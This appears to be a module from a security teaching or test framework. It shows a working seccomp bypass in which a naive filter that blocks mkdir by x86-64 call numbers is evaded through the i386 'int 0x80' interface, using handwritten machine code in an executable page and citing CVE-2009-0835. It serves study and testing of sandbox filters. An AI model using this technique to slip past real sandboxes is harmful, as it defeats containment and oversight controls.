"""An attack on a filter: the same system call by another number."""

import ctypes
import mmap
import os
import struct

from scratchlab import linux
from scratchlab.attacks.attack import Evidence, attack
from scratchlab.errors import KernelError
from scratchlab.linux import Prctl, SeccompFlag, SeccompOp, bpf
from scratchlab.linux.bpf import ALLOW, Action, Instruction, Op, Verdict
from scratchlab.linux.numbers import here

_LOW = 0x40  # MAP_32BIT: an address that fits into half a register.  mmap(2)
_MKDIR_OF_I386 = 39
_ROOM_FOR_CODE = 64


@attack(
    "seccomp(2)", "syscall(2)", stopped_by=("seccomp",),
    history="CVE-2009-0835: the kernel's own first filter compared calls of one table with the numbers of the other",
)  # fmt: skip
def second_abi(directory: str) -> Evidence:
    """Make a call by its number of 1991: a filter that does not ask for the table sees another call.  seccomp(2)"""
    # The naive filter, our own: no mkdir and no mkdirat, by the numbers of this machine, and not a word of the table.
    calls = [number for name, number in here().items() if name in ("mkdir", "mkdirat")]
    refusals = [
        part for number in calls for part in (Instruction(Op.IF_EQUAL, 0, 1, number), bpf.answer(Action(Verdict.ERRNO, 1)))
    ]
    linux.prctl(Prctl.SET_NO_NEW_PRIVS, 1)
    linux.seccomp(SeccompOp.SET_MODE_FILTER, SeccompFlag(0), [bpf.load(0), *refusals, bpf.answer(ALLOW)])
    try:
        os.mkdir(directory)
        return Evidence(False, "the naive filter did not even refuse the number of this machine")
    except PermissionError:
        result = _by_its_old_number(directory)
    answer = KernelError.symbol(-result) if result < 0 else result
    return Evidence(os.path.isdir(directory), f"mkdir({directory}) by int 0x80, number {_MKDIR_OF_I386} = {answer}")


def _by_its_old_number(path: str) -> int:
    """mkdir(2) as a 32-bit program would call it: numbers in eax, ebx, ecx, and software interrupt 0x80."""
    page = mmap.mmap(
        -1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _LOW, mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    )
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    code = [
        b"\x53",  # push rbx, which is our caller's
        b"\xb8" + struct.pack("<I", _MKDIR_OF_I386),  # mov eax, 39
        b"\xbb" + struct.pack("<I", address + _ROOM_FOR_CODE),  # mov ebx, path
        b"\xb9" + struct.pack("<I", 0o755),  # mov ecx, mode
        b"\xcd\x80",  # int 0x80
        b"\x5b\xc3",  # pop rbx; ret
    ]
    page.write(b"".join(code).ljust(_ROOM_FOR_CODE, b"\0") + os.fsencode(path) + b"\0")
    return int(ctypes.CFUNCTYPE(ctypes.c_int)(address)())
